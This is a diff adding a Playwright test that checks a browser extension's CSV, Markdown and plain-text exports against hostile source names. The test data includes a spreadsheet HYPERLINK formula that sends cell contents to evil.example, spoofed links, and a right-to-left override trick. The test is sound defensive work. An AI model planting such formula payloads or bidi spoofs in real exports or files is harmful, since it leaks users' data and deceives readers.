@@ -213,3 +213,59 @@ test.describe('2. revoking the browser’s permission stops the token', () => {
     expect(tokensSeenBy(rogue)).toHaveLength(seenBefore);
   });
 });
+
+test.describe('7. hostile source names in exports', () => {
+  const HOSTILE_JOB = 'e5e5e5e5-0000-4000-8000-00000000e7e7';
+  const names = {
+    formula: 'Ops;=HYPERLINK("https://evil.example/steal?d="&A2;"Open");',
+    link: 'Apply at www.evil.example/login or https://evil.example/x [here](https://evil.example)',
+    mail: 'Write to jobs@evil.example',
+    // Reads as "Referral ‮moc.live‬" in an e-mail: a right-to-left override and a zero-width space.
+    bidi: 'Referral \u202Emoc.live\u202C\u200B team',
+  };
+
+  test('attack: source names that are formulas, links or bidi tricks — exported as plain text, never run or linked', async ({ api, connect, openPopup }) => {
+    api.jobs.set(HOSTILE_JOB, {
+      job_id: HOSTILE_JOB,
+      title: 'Hostile names',
+      sources: Object.values(names).map((name, i) => ({
+        id: `hostile-${i}`,
+        source_name: name,
+        source_url: `https://jobs.hirempire.com/acme/hostile-${i}`,
+        code: `h${i}`,
+        visits: 10 - i,
+        created_at: '2026-09-01T09:00:00.000Z',
+      })),
+    });
+    await connect();
+    const page = await openPopup();
+    await page.getByLabel('Job ID').fill(HOSTILE_JOB);
+    await page.getByLabel('Job ID').press('Enter');
+    await expect(page.getByRole('list', { name: 'Sources' }).getByRole('listitem')).toHaveCount(4);
+    const copyAll = async (label: string) => {
+      await page.getByRole('button', { name: 'Copy all' }).click();
+      await page.getByRole('group', { name: 'Copy all as' }).getByRole('button', { name: label }).click();
+      await expect(page.getByRole('button', { name: 'Copied all' })).toBeVisible();
+      const text: string = await page.evaluate(() => navigator.clipboard.readText());
+      await expect(page.getByRole('button', { name: 'Copy all' })).toBeVisible();
+      return text;
+    };
+    const invisible = /[\u200B-\u200F\u202A-\u202E\u2066-\u2069]/;
+
+    const csv = await copyAll('CSV');
+    const rows = csv.split('\r\n').slice(1);
+    // Every text cell quoted; the formula neutralised at the start and after each ";".
+    expect(rows[0]).toBe(`"Ops;'=HYPERLINK(""https://evil.example/steal?d=""&A2;""Open"");",10,"29%","2026-09-01T09:00:00.000Z","https://jobs.hirempire.com/acme/hostile-0"`);
+    for (const row of rows) expect(row).toMatch(/^"[^]*",\d+,"[^"]*","[^"]*","https:\/\/jobs\.hirempire\.com\/acme\/hostile-\d"$/);
+    expect(csv).not.toMatch(invisible);
+
+    const markdown = await copyAll('Markdown table');
+    expect(markdown).toContain('Apply at www\\.evil.example/login or https\\://evil.example/x \\[here\\](https\\://evil.example)');
+    expect(markdown).toContain('Write to jobs\\@evil.example');
+    expect(markdown).not.toMatch(invisible);
+
+    const text = await copyAll('Plain text');
+    expect(text).toContain('Referral moc.live team');
+    expect(text).not.toMatch(invisible);
+  });
+});
